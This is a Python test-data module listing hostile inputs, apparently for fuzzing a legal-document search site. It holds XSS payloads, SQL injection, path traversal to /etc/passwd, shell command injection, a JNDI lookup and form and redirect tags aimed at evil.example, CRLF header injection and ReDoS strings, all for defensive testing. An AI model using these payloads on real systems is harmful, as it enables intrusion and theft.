"""What do hostile requests hold? Strings of our own making, by what they are meant to break."""

from __future__ import annotations

#: Markup that runs where it is not escaped. Each has the marker in it.
MARKER = "xssmark"
XSS = (
    f"<script>{MARKER}()</script>",
    f'"><script>{MARKER}()</script>',
    f"'><img src=x onerror={MARKER}()>",
    f"<svg/onload={MARKER}()>",
    f'" onmouseover="{MARKER}()" x="',
    f"' autofocus onfocus={MARKER}() '",
    f"javascript:{MARKER}()",
    f"</title><script>{MARKER}()</script>",
    f"</textarea><script>{MARKER}()</script>",
    f"</mark><script>{MARKER}()</script>",
    f"<iframe srcdoc='<script>{MARKER}()</script>'>",
    f"<a href=javascript:{MARKER}()>court</a>",
    f"<math><mtext></mtext><script>{MARKER}()</script>",
    f"]]><script>{MARKER}()</script>",
    f"--><script>{MARKER}()</script>",
    f"<scr<script>ipt>{MARKER}()</scr</script>ipt>",
    f"&lt;script&gt;{MARKER}()&lt;/script&gt;",
    f"\uff1cscript\uff1e{MARKER}()\uff1c/script\uff1e",
    f"<form action=https://evil.example/{MARKER}><button>",
    f"<base href=https://evil.example/{MARKER}>",
    f"<meta http-equiv=refresh content='0;url=https://evil.example/{MARKER}'>",
)

#: Text that a parameter or a part of a path may be, by code points.
TEXTS = (
    "", " ", "\t", "\n", "\r\n", "\x00", "\x01\x02\x1f\x7f", "\x1b[31mred\x1b[0m",
    "\u0085\u2028\u2029",
    "%", "%s%s%s%n", "%d%x%p", "{0}{1}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% debug %}",
    "{{config.items()}}", "{{''.__class__.__mro__}}", "${jndi:ldap://evil.example/a}",
    "' OR '1'='1", "'; DROP TABLE paragraph;--", "\" OR 1=1 --", "1) UNION SELECT 1,2,3--",
    "x' AND randomblob(100000000) AND 'x", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
    "....//....//etc/passwd", "/etc/passwd\x00.json", "file:///etc/passwd", "\\\\evil\\share",
    "`id`", "$(id)", "; id", "| id", "&& id", "-1", "0", "1e9", "NaN", "Infinity", "-0", "0x10",
    "9" * 400, "1" + "0" * 5000, "²", "٣", "１２", "½", "true", "null", "undefined", "None",
    "[]", "{}", "[object Object]", "a" * 4000, "a" * 4001, "é" * 4000, "\U0001f600" * 2000,
    "\u202etxt.exe", "\u2066\u2067\u2068\u2069", "\u200b\u200c\u200d\ufeff", "\u0000\ufffe\uffff",
    "Z" + "\u0335\u0321\u0489" * 300, "I\u0307\u0131\u0130ß\ufb03", "\u1e9e\u212a\u017f", "\ud83d",
    "ﷺ" * 500, "ᄒ" + "ᅡ" * 500, "\u0e33" * 500, "กำ" * 800, "المحكمة" * 100, "法院" * 900,
    "AND", "OR", "NOT", "NOT NOT NOT", "AND AND", "OR (", ")", "(", "(" * 4000, ")" * 4000,
    "()" * 2000, '"', '"' * 4000, '"" ' * 1000, "“”„‟«»" * 500, "-" * 4000, "- - -", "--a", "-(",
    "~",
    "~~", "a~", "a~9999999999999999", '"a b"~99999999999999999999', '"a"~', "a~2~2~2", "*", "?",
    "*" * 4000, "?" * 4000, "a*", "abc*", "abc" + "*a" * 1900, "abc" + "?*" * 1900, "abc*[a-z]*",
    "(a+)+$", "(a|a)*b", "a" * 3000 + "!", "((((((((((a*)*)*)*)*)*)*)*)*)*)", "[" * 3000,
    "[!" * 500,
    "url:", "url:a", "date:", "date:..", "date:0000..9999", "date:2019-99-99", "date:99999-01-01",
    "date:1..2", "section:", "section:\"", "person:\"\"", "article:", "article:(((", "case://///",
    "nofield:x", "kind:" * 800, "submission:../..", "fn", "fn 0", "fn 1-999999", "paras 1-999999",
    "¶" * 2000, "paras " + "1, " * 600, "48(a)(b)(c)(d)(e)", "1.1.1.1.1.1.1", "26~2", "u1", "26~99",
    "JS1/48", "kaz/", "/48", "Article " * 500, "Article 174(1)(2)(3)(4)", "Art. " + "9" * 3000,
    "Opinion No. 16/" * 200, "A/HRC/" * 600, "CCPR/C/" + "1/" * 1500, "Communication No. " * 200,
    "l'" * 1900, "d'l'qu'" * 500, "pre-" * 900, "non-" * 900 + "x", "a-" * 1900, "a." * 1900,
    "a_" * 1900, "http://" * 500, "www." * 900, "x@" * 1500, "1,413", "99.8%", "2026-" * 500,
    "Mukhtar Ablyazov", "akberdieva", "٠١٢٣" * 400, "𝟘𝟙𝟚" * 300, "ĳ" * 2000, "ŉ" * 2000,
    *XSS,
)  # fmt: skip

#: Bytes of a query string or a path, percent-encoded as they are sent, that are no text.
ENCODED = (
    "%", "%zz", "%0", "%00", "%ff", "%fe%ff", "%c0%af", "%c0%ae%c0%ae/", "%e0%80%af",
    "%f0%80%80%af",
    "%ed%a0%80", "%ed%a0%bd%ed%b8%80", "%f4%90%80%80", "%f8%88%80%80%80", "%c3", "%e2%82", "%c3%28",
    "%0d%0aSet-Cookie:%20a=b", "%0d%0a%0d%0a%3Cscript%3E", "%250d%250a",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f", "..%2f..%2f", "..%5c..%5c", "%u0041", "+%2b+", "%26%3d%3b", "%80" * 300,
    "%ef%bb%bf", "%ef%bf%bf", "%1b%5b31m", "%e2%80%ae", "%cc%b5" * 500,
)  # fmt: skip
